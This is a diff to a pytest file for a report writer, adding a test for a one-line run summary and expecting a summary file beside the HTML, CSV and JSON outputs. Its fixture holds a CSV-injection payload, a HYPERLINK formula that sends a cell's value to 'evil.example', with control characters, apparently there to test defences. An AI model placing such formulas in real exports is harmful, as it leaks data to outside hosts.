@@ -12,9 +12,9 @@ import pandas as pd
 import pytest
 
 from retract.model import State
-from retract.reports.html import MAX_ROWS
-from retract.reports.model import RunReport
-from retract.reports.write import COLUMNS, render_csv, render_json, write_report
+from retract.reports.html import MAX_ROWS, headline
+from retract.reports.model import ReportSummary, RunReport
+from retract.reports.write import COLUMNS, render_csv, render_json, summary_of, write_report
 
 FORMULA = '=HYPERLINK("http://evil.example/"&A1,"open")'
 HOSTILE = f'{FORMULA};@SUM(A1),"quoted"\r\nnew line \u202e and \x00'
@@ -71,7 +71,20 @@ def test_csv_has_what_the_page_leaves_out(planned: Any, make_plan: Any, report: 
 def test_the_files_are_written_whole(hostile: RunReport, tmp_path: Path) -> None:
     folder = tmp_path / "new" / "run"
     paths = write_report(hostile, folder)
-    assert sorted(folder.iterdir()) == sorted([paths.html, paths.csv, paths.json])
+    assert sorted(folder.iterdir()) == sorted([paths.html, paths.csv, paths.json, paths.summary])
     assert paths.csv.read_bytes().startswith(b"\xef\xbb\xbfreceived_at,")
     assert paths.html.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
     assert write_report(hostile, folder) == paths
+
+
+def test_the_summary_is_the_report_in_one_line(
+    planned: Any, make_plan: Any, outcome: Any, report: Any
+) -> None:
+    copies = [planned(1), planned(2)]
+    made = report(make_plan(copies), [outcome(one, State.DONE) for one in copies])
+    assert summary_of(made) == ReportSummary(
+        headline=headline(made), failed=False, preview=False, changed=2
+    )
+    failed = report(make_plan(copies), [outcome(one, State.FAILED) for one in copies])
+    assert summary_of(failed).failed
+    assert summary_of(failed).changed == 0
